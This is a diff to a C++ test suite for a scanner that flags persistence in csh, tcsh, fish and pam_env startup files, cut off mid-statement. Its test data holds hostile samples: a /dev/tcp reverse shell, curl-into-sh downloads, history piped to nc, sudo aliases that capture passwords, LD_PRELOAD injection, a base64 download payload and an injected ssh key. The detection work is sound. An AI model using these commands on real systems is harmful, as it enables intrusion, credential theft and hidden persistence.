@@ -6,6 +6,7 @@
 
 #include "import/LogLayout.h"
 #include "import/importers/NodeScriptImporter.h"
+#include "import/importers/ShellDialect.h"
 #include "import/importers/ShellScript.h"
 #include "util/Hash.h"
 
@@ -110,6 +111,13 @@ private slots:
     void hookDetections_data();
     void hookDetections();
     void hookFilesBounded();
+    void dialectText_data();
+    void dialectText();
+    void shellDialects_data();
+    void shellDialects();
+    void shellDialectFindingsSayWhat();
+    void pamEnvironment();
+    void shellDialectsBounded();
     void fuzz();
 };
 
@@ -653,7 +661,17 @@ void TestNodeScriptImporter::nodeFromThePath()
                              "worker-1/etc/udev/rules.d/99-x.rules",
                              "worker-1/usr/lib/udev/rules.d/80-drivers.rules",
                              "worker-1/etc/xdg/autostart/x.desktop",
-                             "worker-1/home/alice/.config/autostart/x.desktop"}) {
+                             "worker-1/home/alice/.config/autostart/x.desktop",
+                             "worker-1/etc/csh.cshrc",
+                             "worker-1/etc/csh/login.d/lang",
+                             "worker-1/root/.tcshrc",
+                             "worker-1/home/alice/.login",
+                             "worker-1/etc/fish/config.fish",
+                             "worker-1/etc/fish/conf.d/x.fish",
+                             "worker-1/home/alice/.config/fish/config.fish",
+                             "worker-1/home/alice/.config/fish/functions/sudo.fish",
+                             "worker-1/etc/security/pam_env.conf",
+                             "worker-1/home/alice/.pam_environment"}) {
         const QString p = QStringLiteral("nodes.tar.gz/") + QLatin1String(path);
         QCOMPARE(LogLayout::recognize(p).node, QStringLiteral("worker-1"));
     }
@@ -724,7 +742,41 @@ void TestNodeScriptImporter::sniff_data()
     QTest::newRow("a placeholder") << QByteArray("# DO NOT EDIT OR REMOVE\n") << "worker-1/etc/cron.daily/.placeholder"
                                    << QString();
     QTest::newRow("a package's backup") << sh << "worker-1/etc/cron.daily/logrotate.dpkg-old" << QString();
-    QTest::newRow("profile.d's csh") << sh << "worker-1/etc/profile.d/vte.csh" << QString();
+    // csh's and fish's files are this importer's, read in their syntax; not
+    // where their shells do not read them, nor of another language.
+    const QByteArray csh = "setenv LANG C.UTF-8\nalias ll 'ls -l'\n";
+    const QByteArray fish = "set -gx LANG C.UTF-8\nalias ll 'ls -l'\n";
+    QTest::newRow("profile.d's csh") << csh << "worker-1/etc/profile.d/vte.csh" << script;
+    QTest::newRow("profile.d's csh with sh's first line") << sh << "worker-1/etc/profile.d/vte.csh" << script;
+    QTest::newRow("csh.cshrc") << csh << "worker-1/etc/csh.cshrc" << script;
+    QTest::newRow("csh/login.d") << csh << "worker-1/etc/csh/login.d/lang" << script;
+    QTest::newRow("root's .cshrc") << csh << "worker-1/root/.cshrc" << script;
+    QTest::newRow("a user's .login") << csh << "worker-1/home/alice/.login" << script;
+    QTest::newRow("a user's .logout") << csh << "worker-1/home/alice/.logout" << script;
+    QTest::newRow("a .tcshrc with tcsh's first line")
+        << QByteArray("#!/bin/tcsh\n" + csh) << "worker-1/home/alice/.tcshrc" << script;
+    QTest::newRow("a .cshrc of python") << QByteArray("#!/usr/bin/python3\nprint(1)\n") << "worker-1/root/.cshrc"
+                                        << QString();
+    QTest::newRow("a .cshrc of fish") << QByteArray("#!/usr/bin/fish\n" + fish) << "worker-1/root/.cshrc" << QString();
+    QTest::newRow("fish's conf.d") << fish << "worker-1/etc/fish/conf.d/x.fish" << script;
+    QTest::newRow("a user's fish function") << fish << "worker-1/home/alice/.config/fish/functions/ll.fish" << script;
+    QTest::newRow("a user's config.fish") << fish << "worker-1/home/alice/.config/fish/config.fish" << script;
+    QTest::newRow("a config.fish of csh")
+        << QByteArray("#!/bin/csh\n" + csh) << "worker-1/etc/fish/config.fish" << QString();
+    QTest::newRow("fish's completions") << fish << "worker-1/home/alice/.config/fish/completions/x.fish" << QString();
+    QTest::newRow("profile.d's fish") << fish << "worker-1/etc/profile.d/x.fish" << QString();
+    QTest::newRow("conf.d's sh") << sh << "worker-1/etc/fish/conf.d/x.sh" << QString();
+    QTest::newRow("a .cshrc elsewhere") << csh << "worker-1/opt/app/.cshrc" << QString();
+    QTest::newRow("a fish script in cron.daily")
+        << QByteArray("#!/usr/bin/fish\n" + fish) << "worker-1/etc/cron.daily/x" << script;
+    QTest::newRow("a tcsh script in init.d")
+        << QByteArray("#!/bin/tcsh -f\n" + csh) << "worker-1/etc/init.d/x" << script;
+    QTest::newRow("pam_env.conf") << QByteArray("PATH DEFAULT=/usr/bin\n") << "worker-1/etc/security/pam_env.conf"
+                                  << script;
+    QTest::newRow("a user's .pam_environment")
+        << QByteArray("LANG=C\n") << "worker-1/home/alice/.pam_environment" << script;
+    QTest::newRow("a user's .pam_environment of pam_env.conf's syntax")
+        << QByteArray("EDITOR DEFAULT=vim\n") << "worker-1/home/alice/.pam_environment" << script;
     QTest::newRow("a hidden file in a home") << sh << "worker-1/home/alice/.bash_history" << QString();
     QTest::newRow("binary at rc.local") << QByteArray("\x7f"
                                                       "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0",
@@ -825,6 +877,17 @@ void TestNodeScriptImporter::packagedHookFilesAreQuiet_data()
          1},
         {"debian/etc/xdg/autostart/xdg-user-dirs.desktop", QStringLiteral("NodeAutostart"), "desktop login", every,
          "commands", 1},
+        // csh's and tcsh's, fish's (its packaged config.fish only comments: no
+        // resource), pam_env.conf (only comments).
+        {"debian/etc/csh.cshrc", script, "every csh", every, "suspicious", 0},
+        {"debian/etc/csh.login", script, "login shell", every, "suspicious", 0},
+        {"debian/home/admin/.tcshrc", script, "every csh", QStringLiteral("admin"), "suspicious", 0},
+        {"debian/etc/fish/config.fish", QString(), "", every, "", 0},
+        {"debian/home/admin/.config/fish/config.fish", script, "every fish", QStringLiteral("admin"), "suspicious", 0},
+        {"debian/home/admin/.config/fish/functions/ssh.fish", script, "fish function", QStringLiteral("admin"),
+         "suspicious", 0},
+        {"debian/etc/security/pam_env.conf", QStringLiteral("NodeEnvironment"), "every login session", every,
+         "variables", 0},
     };
     QCOMPARE(treeFiles(QStringLiteral("debian")).size(), int(std::size(rows)));
     for (const Row& r : rows)
@@ -848,6 +911,12 @@ void TestNodeScriptImporter::packagedHookFilesAreQuiet()
     QVERIFY(m.result.hasValue());
     QCOMPARE(m.result.value().skipped, 0);
     QVERIFY2(m.out.findings.empty(), qPrintable(findingLines(m).join(QLatin1Char(' '))));
+    if (kind.isEmpty()) {
+        // Comments only: nothing to keep, and said so.
+        QCOMPARE(issueCodes(m.issues), QStringList{QStringLiteral("node-script.empty")});
+        QVERIFY(m.out.resources.empty());
+        return;
+    }
     QCOMPARE(issueCodes(m.issues), QStringList());
     QCOMPARE(m.out.resources.size(), size_t(1));
     const Resource& r = m.out.resources.front();
@@ -896,7 +965,35 @@ void TestNodeScriptImporter::hookIntruders_data()
     QTest::newRow("an autostart entry from a hidden folder")
         << "rootkit/home/dev/.config/autostart/gnome-keyring-helper.desktop"
         << "NodeAutostart" << QStringList{QStringLiteral("node.autostart.exec@4")};
-    QCOMPARE(treeFiles(QStringLiteral("rootkit")).size(), 9);
+    // csh's, tcsh's and fish's files, judged with the rules of sh's.
+    QTest::newRow("csh.cshrc: a preload, sudo's password, precmd, history off")
+        << "rootkit/etc/csh.cshrc"
+        << "NodeScript"
+        << QStringList{QStringLiteral("node.script.credential-alias@19"), QStringLiteral("node.script.history-off@21"),
+                       QStringLiteral("node.script.history-off@22"), QStringLiteral("node.script.ld-preload@18"),
+                       QStringLiteral("node.script.prompt-command@20")};
+    QTest::newRow("a .tcshrc logging every command, ssh from a hidden folder")
+        << "rootkit/home/dev/.tcshrc"
+        << "NodeScript"
+        << QStringList{QStringLiteral("node.script.credential-alias@6"), QStringLiteral("node.script.debug-trap@3")};
+    QTest::newRow("fish's conf.d: a preload, a prompt hook, history off, a download, a payload")
+        << "rootkit/etc/fish/conf.d/gnome-keyring.fish"
+        << "NodeScript"
+        << QStringList{QStringLiteral("node.script.download-exec@9"), QStringLiteral("node.script.encoded-payload@10"),
+                       QStringLiteral("node.script.history-off@8"), QStringLiteral("node.script.ld-preload@3"),
+                       QStringLiteral("node.script.prompt-command@6")};
+    QTest::newRow("an autoloaded fish function capturing sudo's password")
+        << "rootkit/home/dev/.config/fish/functions/sudo.fish"
+        << "NodeScript" << QStringList{QStringLiteral("node.script.credential-alias@2")};
+    // pam_env's own files.
+    QTest::newRow("pam_env.conf: LD_PRELOAD, PATH from /dev/shm on a continued line")
+        << "rootkit/etc/security/pam_env.conf"
+        << "NodeEnvironment"
+        << QStringList{QStringLiteral("node.environment.ld-preload@77"), QStringLiteral("node.environment.path@79")};
+    QTest::newRow("a user's .pam_environment: libraries from a hidden folder")
+        << "rootkit/home/dev/.pam_environment"
+        << "NodeEnvironment" << QStringList{QStringLiteral("node.environment.library-path@2")};
+    QCOMPARE(treeFiles(QStringLiteral("rootkit")).size(), 15);
 }
 
 void TestNodeScriptImporter::hookIntruders()
@@ -1201,6 +1298,469 @@ void TestNodeScriptImporter::fuzz()
     QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.config/autostart/x.desktop"), 0x6e7d));
     QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/init.d/x"), 0x6e7a));
     QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/zsh/zshenv"), 0x6e7b));
+    // csh's, tcsh's and fish's syntax, pam_env's.
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/csh.cshrc"), 0x6e7e));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.tcshrc"), 0x6e7f));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/fish/config.fish"), 0x6e80));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.config/fish/functions/sudo.fish"), 0x6e81));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/security/pam_env.conf"), 0x6e82));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.pam_environment"), 0x6e83));
+}
+
+void TestNodeScriptImporter::dialectText_data()
+{
+    // Each line as sh reads the same commands; a row's lines go through one
+    // translator, so a quote or a '\' carries to the next.
+    QTest::addColumn<bool>("fish");
+    QTest::addColumn<QStringList>("lines");
+    QTest::addColumn<QStringList>("expected");
+    const auto row = [](const char* name, bool fish, const QStringList& lines, const QStringList& expected) {
+        QTest::newRow(name) << fish << lines << expected;
+    };
+    row("csh: if … then", false, {"if ($?prompt) then"}, {": $?prompt ; then"});
+    row("csh: if without a blank", false, {"if(-e x) y"}, {": -e x ; y"});
+    row("csh: else if", false, {"  else if (-e /x) then"}, {"  else : -e /x ; then"});
+    row("csh: a one-line if", false, {"if ($?prompt) alias x 'y'"}, {": $?prompt ; alias x 'y'"});
+    row("csh: foreach", false, {"foreach f (a `ls` b)"}, {": f a `ls` b ;"});
+    row("csh: while, switch", false, {"while ($i < 3)", "switch ($x)"}, {": $i < 3 ;", ": $x ;"});
+    row("csh: an expression with a ')' quoted", false, {"if (\"$x\" == \")\") y"}, {": \"$x\" == \")\" ; y"});
+    row("csh: an unclosed expression", false, {"if ($x then"}, {"if ($x then"});
+    row("csh: a word list", false, {"set path = ( /a $path )"}, {"set path = \" /a $path \""});
+    row("csh: a word list with quotes", false, {"set a = (\"x\" y)"}, {"set a =  \"x\" y "});
+    row("csh: two lists", false, {"set a=(1) b=(2)"}, {"set a=\"1\" b=\"2\""});
+    row("csh: a subshell", false, {"( /tmp/x & )"}, {"( /tmp/x & )"});
+    row("csh: a continued line starts no command", false, {"alias x \\", "if (y) z"}, {"alias x \\", "if (y) z"});
+    row("csh: a command's words", false, {"echo if (x)"}, {"echo if (x)"});
+    row("fish: a substitution", true, {"eval (echo x | base64 -d)"}, {"eval $(echo x | base64 -d)"});
+    row("fish: $(…) as it is", true, {"echo $(date)"}, {"echo $(date)"});
+    row("fish: nested", true, {"echo (a (b))"}, {"echo $(a $(b))"});
+    row("fish: \\' in single quotes", true, {"echo 'it\\'s' (date)"}, {"echo 'it'\\''s' $(date)"});
+    row("fish: \\\\ in single quotes", true, {"echo 'a\\\\b'"}, {"echo 'a\\b'"});
+    row("fish: parens in double quotes", true, {"echo \"(x)\""}, {"echo \"(x)\""});
+    row("fish: and, or, not", true, {"true; and /tmp/x", "or curl x | sh", "not test -f y", "  and echo"},
+        {"true; && /tmp/x", "|| curl x | sh", "    test -f y", "  && echo"});
+    row("fish: and as a word", true, {"echo and or not", "android x"}, {"echo and or not", "android x"});
+    row("fish: a quote across lines", true, {"echo 'a", "(b)' (c)"}, {"echo 'a", "(b)' $(c)"});
+    row("fish: a comment", true, {"echo x # (y) 'z"}, {"echo x # (y) 'z"});
+}
+
+void TestNodeScriptImporter::dialectText()
+{
+    QFETCH(bool, fish);
+    QFETCH(QStringList, lines);
+    QFETCH(QStringList, expected);
+    shelldialect::Translator t(fish ? shelldialect::Dialect::Fish : shelldialect::Dialect::Csh);
+    QStringList out;
+    for (const QString& l : lines)
+        out << QString::fromStdString(t.line(l.toStdString()));
+    QCOMPARE(out, expected);
+}
+
+void TestNodeScriptImporter::shellDialects_data()
+{
+    QTest::addColumn<QString>("path");
+    QTest::addColumn<QByteArray>("text");
+    QTest::addColumn<QStringList>("findings"); // "rule@line", node.script. left off
+    const QString cshrc = QStringLiteral("worker-1/etc/csh.cshrc");
+    const QString login = QStringLiteral("worker-1/etc/csh.login");
+    const QString users = QStringLiteral("worker-1/home/alice/.cshrc");
+    const QString confD = QStringLiteral("worker-1/etc/fish/conf.d/x.fish");
+    const QString function = QStringLiteral("worker-1/home/alice/.config/fish/functions/x.fish");
+    const QStringList none;
+
+    // csh and tcsh.
+    QTest::newRow("csh: setenv LD_PRELOAD")
+        << cshrc << QByteArray("setenv LD_PRELOAD /usr/local/lib/libx.so\n") << QStringList{"ld-preload@1"};
+    QTest::newRow("csh: setenv LD_PRELOAD empty")
+        << cshrc << QByteArray("setenv LD_PRELOAD \"\"\nsetenv LD_PRELOAD\nunsetenv LD_PRELOAD\n") << none;
+    QTest::newRow("csh: set LD_PRELOAD, a shell variable") << cshrc << QByteArray("set LD_PRELOAD=/lib/x.so\n") << none;
+    QTest::newRow("csh: alias sudo to /tmp")
+        << users << QByteArray("alias sudo /tmp/.s/sudo\n") << QStringList{"credential-alias@1"};
+    QTest::newRow("csh: alias su reading the password")
+        << users << QByteArray("alias su 'set p = $<; echo $p >> ~/.p; /bin/su \\!*'\n")
+        << QStringList{"credential-alias@1"};
+    QTest::newRow("csh: alias sudo 'sudo -E'") << users << QByteArray("alias sudo 'sudo -E'\n") << none;
+    QTest::newRow("csh: alias ssh by its path") << users << QByteArray("alias ssh '/usr/bin/ssh -A \\!*'\n") << none;
+    QTest::newRow("csh: other aliases") << users << QByteArray("alias ls 'ls -F'\nalias k kubectl\nalias\n") << none;
+    QTest::newRow("csh: precmd with nc") << cshrc << QByteArray("alias precmd 'history 1 | nc 203.0.113.7 9000'\n")
+                                         << QStringList{"prompt-command@1"};
+    QTest::newRow("csh: precmd sets the title")
+        << cshrc << QByteArray("alias precmd 'echo -n \"\\033]0;${HOST}\\007\"'\n") << none;
+    QTest::newRow("csh: cwdcmd from /dev/shm")
+        << users << QByteArray("alias cwdcmd /dev/shm/.c\n") << QStringList{"prompt-command@1"};
+    QTest::newRow("csh: periodic with wget")
+        << users << QByteArray("set tperiod = 5\nalias periodic 'wget -q -O- http://203.0.113.7/b'\n")
+        << QStringList{"prompt-command@2"};
+    QTest::newRow("csh: jobcmd with curl")
+        << cshrc << QByteArray("alias jobcmd 'curl -s -d \"\\!#\" https://203.0.113.7/c'\n")
+        << QStringList{"debug-trap@1"};
+    QTest::newRow("csh: postcmd sets the title")
+        << cshrc << QByteArray("alias postcmd 'echo -n \"\\033]2;\\!#\\007\"'\n") << none;
+    QTest::newRow("csh: set history = 0") << cshrc << QByteArray("set history = 0\n") << QStringList{"history-off@1"};
+    QTest::newRow("csh: set savehist=0") << login << QByteArray("set savehist=0\n") << QStringList{"history-off@1"};
+    QTest::newRow("csh: unset history and savehist")
+        << cshrc << QByteArray("unset history savehist\n") << QStringList{"history-off@1"};
+    QTest::newRow("csh: histfile to /dev/null")
+        << cshrc << QByteArray("set histfile=/dev/null\n") << QStringList{"history-off@1"};
+    QTest::newRow("csh: a history kept")
+        << cshrc << QByteArray("set history=1000\nset savehist = (1000 merge)\nset histfile = ~/.history\n") << none;
+    QTest::newRow("csh: a user's own history") << users << QByteArray("unset savehist\nset history = 0\n") << none;
+    QTest::newRow("csh: a one-line if running a download")
+        << cshrc << QByteArray("if ($?prompt) curl -s http://203.0.113.7/x | sh\n") << QStringList{"download-exec@1"};
+    QTest::newRow("csh: the if's expression runs")
+        << cshrc << QByteArray("if (`curl -s http://203.0.113.7/x | sh` == 1) then\nendif\n")
+        << QStringList{"download-exec@1"};
+    QTest::newRow("csh: a word list, not a subshell") << users << QByteArray("set path = ( /tmp/.x $path )\n") << none;
+    QTest::newRow("csh: a subshell") << cshrc << QByteArray("( /tmp/.x/run & )\n") << QStringList{"runs-from-temp@1"};
+    QTest::newRow("csh: a reverse shell")
+        << login << QByteArray("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' &\n")
+        << QStringList{"reverse-shell@1"};
+    QTest::newRow("csh: a download sourced")
+        << cshrc << QByteArray("curl -so /tmp/.r https://203.0.113.7/r\nsource /tmp/.r\n")
+        << QStringList{"download-exec@2"};
+    QTest::newRow("csh: blocks") << cshrc
+                                 << QByteArray("if ($?x) then\nelse if (-x /tmp/.y) then\n    /tmp/.y\nendif\n"
+                                               "foreach f (/tmp/.a /tmp/.b)\nend\nswitch ($x)\ncase a:\n    breaksw\n"
+                                               "endsw\n")
+                                 << QStringList{"runs-from-temp@3"};
+    QTest::newRow("csh: RHEL's shapes")
+        << login
+        << QByteArray(
+               "if ($uid > 199 && \"`id -gn`\" == \"`id -un`\") then\n    umask 002\nelse\n    umask 022\nendif\n"
+               "if ($?prompt) then\n  if ($?tcsh) then\n    set promptchars='$#'\n"
+               "    set prompt=\"[%n@%m %c]%# \"\n  else\n    set prompt=\\[$user@`hostname -s`\\]\\$\\ \n"
+               "  endif\nendif\nsetenv MAIL \"/var/spool/mail/$USER\"\nlimit coredumpsize 0\n"
+               "if ( -d /etc/profile.d ) then\n    set nonomatch\n    foreach i ( /etc/profile.d/*.csh )\n"
+               "        if ( -r \"$i\" ) then\n            if ($?prompt) then\n                source \"$i\"\n"
+               "            else\n                source \"$i\" >& /dev/null\n            endif\n        endif\n"
+               "    end\n    unset i nonomatch\nendif\n")
+        << none;
+    QTest::newRow("csh: a curl piped into tcsh")
+        << users << QByteArray("curl -s http://203.0.113.7/x | tcsh\n") << QStringList{"download-exec@1"};
+
+    // fish.
+    QTest::newRow("fish: set -gx LD_PRELOAD")
+        << confD << QByteArray("set -gx LD_PRELOAD /lib/x.so\n") << QStringList{"ld-preload@1"};
+    QTest::newRow("fish: --export --global")
+        << confD << QByteArray("set --export --global LD_PRELOAD /lib/x.so\n") << QStringList{"ld-preload@1"};
+    QTest::newRow("fish: LD_PRELOAD not exported") << confD << QByteArray("set -g LD_PRELOAD /lib/x.so\n") << none;
+    QTest::newRow("fish: LD_PRELOAD erased, queried")
+        << confD << QByteArray("set -e LD_PRELOAD\nset -q LD_PRELOAD\nset -gx LD_PRELOAD\n") << none;
+    QTest::newRow("fish: alias sudo=…") << confD
+                                        << QByteArray("alias sudo='read -s p; echo $p >> /tmp/.p; command sudo'\n")
+                                        << QStringList{"credential-alias@1"};
+    QTest::newRow("fish: alias sudo words")
+        << confD << QByteArray("alias sudo /home/u/.s/sudo\n") << QStringList{"credential-alias@1"};
+    QTest::newRow("fish: alias sudo 'sudo -E'")
+        << confD << QByteArray("alias sudo 'sudo -E'\nalias -s ll 'ls -l'\n") << none;
+    QTest::newRow("fish: function sudo on one line")
+        << confD << QByteArray("function sudo; read -s -P 'Password: ' p; command sudo $argv; end\n")
+        << QStringList{"credential-alias@1"};
+    QTest::newRow("fish: function su wrapping su")
+        << function << QByteArray("function su\n    command su -l $argv\nend\n") << none;
+    QTest::newRow("fish: function ssh, set first")
+        << function << QByteArray("function ssh\n    set -l a $argv\n    /usr/bin/ssh $a\nend\n") << none;
+    QTest::newRow("fish: function passwd by another program")
+        << function << QByteArray("function passwd\n    /usr/local/bin/pw-sync $argv\nend\n")
+        << QStringList{"credential-alias@2"};
+    QTest::newRow("fish: another function reading")
+        << function << QByteArray("function greet\n    read -s x\nend\n") << none;
+    QTest::newRow("fish: function sudo reading after its program")
+        << function << QByteArray("function sudo\n    command sudo -v\n    read -s p\n    command sudo $argv\nend\n")
+        << QStringList{"credential-alias@3"};
+    QTest::newRow("fish: fish_prompt calling curl")
+        << confD << QByteArray("function fish_prompt\n    curl -s https://203.0.113.7/p?u=$USER\n    echo '> '\nend\n")
+        << QStringList{"prompt-command@2"};
+    QTest::newRow("fish: fish_preexec to nc")
+        << confD << QByteArray("function __log --on-event fish_preexec\n    echo $argv | nc 203.0.113.7 9000\nend\n")
+        << QStringList{"debug-trap@2"};
+    QTest::newRow("fish: --on-event=fish_postexec")
+        << confD << QByteArray("function __p --on-event=fish_postexec\n    wget -q http://203.0.113.7/w\nend\n")
+        << QStringList{"prompt-command@2"};
+    QTest::newRow("fish: on-variable PWD from /tmp")
+        << confD << QByteArray("function __cd --on-variable PWD\n    /tmp/.c/hook\nend\n")
+        << QStringList{"prompt-command@2", "runs-from-temp@2"};
+    QTest::newRow("fish: an if inside the prompt, then more of it")
+        << confD
+        << QByteArray("function fish_prompt\n    if test -n \"$SSH_TTY\"\n        echo -n (hostname)\n    end\n"
+                      "    curl -s https://203.0.113.7/p\nend\ncurl -s https://203.0.113.7/ping\n")
+        << QStringList{"prompt-command@5"};
+    QTest::newRow("fish: curl outside any hook") << confD << QByteArray("curl -s https://203.0.113.7/ping\n") << none;
+    QTest::newRow("fish: history off") << confD << QByteArray("set -g fish_history ''\n")
+                                       << QStringList{"history-off@1"};
+    QTest::newRow("fish: history off, no value")
+        << confD << QByteArray("set -U fish_history\n") << QStringList{"history-off@1"};
+    QTest::newRow("fish: a history of its own name") << confD << QByteArray("set -g fish_history work\n") << none;
+    QTest::newRow("fish: a user's own history") << QStringLiteral("worker-1/home/alice/.config/fish/config.fish")
+                                                << QByteArray("set fish_history ''\n") << none;
+    QTest::newRow("fish: piped into source")
+        << confD << QByteArray("curl -fsSL https://203.0.113.7/i.fish | source\n") << QStringList{"download-exec@1"};
+    QTest::newRow("fish: source of psub") << confD << QByteArray("source (curl -s https://203.0.113.7/i.fish | psub)\n")
+                                          << QStringList{"download-exec@1"};
+    QTest::newRow("fish: piped into fish")
+        << confD << QByteArray("wget -qO- http://203.0.113.7/x | fish\n") << QStringList{"download-exec@1"};
+    QTest::newRow("fish: eval of base64")
+        << confD << QByteArray("eval (echo ZWNobyBoaQ== | base64 -d)\n") << QStringList{"encoded-payload@1"};
+    QTest::newRow("fish: and, or before a command")
+        << confD << QByteArray("test -x /tmp/.x/run\nand /tmp/.x/run\nor curl -s http://203.0.113.7/x | sh\n")
+        << QStringList{"download-exec@3", "runs-from-temp@2"};
+    QTest::newRow("fish: begin … end") << confD << QByteArray("begin\n    true; and /tmp/.x/run\nend\n")
+                                       << QStringList{"runs-from-temp@2"};
+    QTest::newRow("fish: a reverse shell")
+        << confD << QByteArray("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' &\n")
+        << QStringList{"reverse-shell@1"};
+    QTest::newRow("fish: an ssh key written")
+        << confD << QByteArray("echo 'ssh-ed25519 AAAAC3Nz x' >> /root/.ssh/authorized_keys\n")
+        << QStringList{"adds-ssh-key@1"};
+    QTest::newRow("fish: completions sourced") << confD << QByteArray("kubectl completion fish | source\n") << none;
+
+    // A script of a boot or cron folder written for another shell, in its syntax.
+    QTest::newRow("a fish script in cron.daily")
+        << QStringLiteral("worker-1/etc/cron.daily/x")
+        << QByteArray("#!/usr/bin/fish\nset -gx LD_PRELOAD /lib/x.so\nfor f in (ls /tmp/.q)\n    /tmp/.q/$f\nend\n")
+        << QStringList{"ld-preload@2", "runs-from-temp@4"};
+    QTest::newRow("a csh script in init.d")
+        << QStringLiteral("worker-1/etc/init.d/x") << QByteArray("#!/bin/csh -f\nsetenv LD_PRELOAD /lib/x.so\n")
+        << QStringList{"ld-preload@2"};
+}
+
+void TestNodeScriptImporter::shellDialects()
+{
+    QFETCH(QString, path);
+    QFETCH(QByteArray, text);
+    QFETCH(QStringList, findings);
+    const MemoryImport m = runBytes(text, path);
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(rulesOf(text, path), findings);
+}
+
+void TestNodeScriptImporter::shellDialectFindingsSayWhat()
+{
+    // csh.cshrc: when it runs, the command as the file has it, the syntax.
+    const MemoryImport csh = runFixture(QStringLiteral("rootkit/etc/csh.cshrc"));
+    QCOMPARE(bodyOf(csh).value(QStringLiteral("syntax")).toString(), QStringLiteral("csh"));
+    QCOMPARE(bodyOf(csh).value(QStringLiteral("runs")).toString(), QStringLiteral("every csh"));
+    QCOMPARE(bodyOf(csh).value(QStringLiteral("runsAs")).toString(), QStringLiteral("every user"));
+    const Finding* precmd =
+        findingFor(csh, QStringLiteral("node.script.prompt-command"), QStringLiteral("etc/csh.cshrc"));
+    QVERIFY(precmd);
+    QCOMPARE(precmd->severity, Severity::High);
+    QCOMPARE(precmd->title, QStringLiteral("the script /etc/csh.cshrc runs a network or temporary program before every "
+                                           "prompt on node worker-1"));
+    QVERIFY2(precmd->detail.startsWith(QLatin1String("csh's and tcsh's precmd")), qPrintable(precmd->detail));
+    QVERIFY2(precmd->detail.contains(QLatin1String("Line 20 of /etc/csh.cshrc, run in every csh and tcsh of every "
+                                                   "user, scripts' too: if ($?prompt) alias precmd 'curl -s")),
+             qPrintable(precmd->detail));
+    const Finding* alias =
+        findingFor(csh, QStringLiteral("node.script.credential-alias"), QStringLiteral("etc/csh.cshrc"));
+    QCOMPARE(alias->severity, Severity::High);
+    QCOMPARE(findingFor(csh, QStringLiteral("node.script.ld-preload"), QStringLiteral("etc/csh.cshrc"))->severity,
+             Severity::Medium);
+    const Finding* history =
+        findingFor(csh, QStringLiteral("node.script.history-off"), QStringLiteral("etc/csh.cshrc"));
+    QCOMPARE(history->severity, Severity::Low);
+    QVERIFY(history->detail.contains(QLatin1String("unset savehist")));
+    // The kept command as written, not as it was read.
+    const QJsonArray kept = bodyOf(csh).value(QStringLiteral("suspicious")).toArray();
+    QCOMPARE(kept.size(), 5);
+    QCOMPARE(kept[2].toObject().value(QStringLiteral("command")).toString().left(31),
+             QStringLiteral("if ($?prompt) alias precmd 'cur"));
+
+    const MemoryImport tcsh = runFixture(QStringLiteral("rootkit/home/dev/.tcshrc"));
+    const Finding* postcmd =
+        findingFor(tcsh, QStringLiteral("node.script.debug-trap"), QStringLiteral("home/dev/.tcshrc"));
+    QCOMPARE(postcmd->severity, Severity::High);
+    QVERIFY2(postcmd->detail.contains(QLatin1String("Line 3 of /home/dev/.tcshrc, run in every csh and tcsh of dev, "
+                                                    "scripts' too: alias postcmd '/dev/shm/.k/kl")),
+             qPrintable(postcmd->detail));
+
+    // fish: a function's file says which command loads it.
+    const MemoryImport sudo = runFixture(QStringLiteral("rootkit/home/dev/.config/fish/functions/sudo.fish"));
+    QCOMPARE(bodyOf(sudo).value(QStringLiteral("syntax")).toString(), QStringLiteral("fish"));
+    QCOMPARE(bodyOf(sudo).value(QStringLiteral("runs")).toString(), QStringLiteral("fish function"));
+    QCOMPARE(bodyOf(sudo).value(QStringLiteral("runsAs")).toString(), QStringLiteral("dev"));
+    const Finding& wrapper = sudo.out.findings.front();
+    QCOMPARE(wrapper.severity, Severity::High);
+    QCOMPARE(wrapper.title, QStringLiteral("the script /home/dev/.config/fish/functions/sudo.fish replaces a login "
+                                           "command with a function on node worker-1"));
+    QVERIFY2(wrapper.detail.contains(QLatin1String("Line 2 of /home/dev/.config/fish/functions/sudo.fish, run when a "
+                                                   "fish of dev first runs sudo:     read --silent")),
+             qPrintable(wrapper.detail));
+    const MemoryImport conf = runFixture(QStringLiteral("rootkit/etc/fish/conf.d/gnome-keyring.fish"));
+    QCOMPARE(bodyOf(conf).value(QStringLiteral("runs")).toString(), QStringLiteral("every fish"));
+    const Finding* payload = findingFor(conf, QStringLiteral("node.script.encoded-payload"),
+                                        QStringLiteral("etc/fish/conf.d/gnome-keyring.fish"));
+    QVERIFY2(payload->detail.endsWith(QLatin1String("run in every fish of every user, scripts' too: eval (echo "
+                                                    "Y3VybCAtcyBodHRwczovLzIwMy4wLjExMy41MC94IHwgc2g= | base64 -d)")),
+             qPrintable(payload->detail));
+    const Finding* prompt = findingFor(conf, QStringLiteral("node.script.prompt-command"),
+                                       QStringLiteral("etc/fish/conf.d/gnome-keyring.fish"));
+    QVERIFY(prompt->detail.contains(QLatin1String("fish_prompt")));
+    // An sh file keeps no syntax of its own.
+    QVERIFY(!bodyOf(runFixture(QStringLiteral("intruded/etc/rc.local"))).contains(QStringLiteral("syntax")));
+    // A comment-only csh.logout is said to hold nothing.
+    const MemoryImport logout = runBytes("# /etc/csh.logout: system-wide .logout file for csh(1) and tcsh(1)\n",
+                                         QStringLiteral("worker-1/etc/csh.logout"));
+    QVERIFY(logout.result.hasValue());
+    QVERIFY(logout.out.resources.empty());
+    QCOMPARE(issueCodes(logout.issues), QStringList{QStringLiteral("node-script.empty")});
+
+    // Through an import of a node's tarball: each file found by where it lies,
+    // under its node, with its findings.
+    QVector<QPair<QString, QByteArray>> members;
+    for (const char* f :
+         {"rootkit/etc/csh.cshrc", "rootkit/home/dev/.tcshrc", "rootkit/etc/fish/conf.d/gnome-keyring.fish",
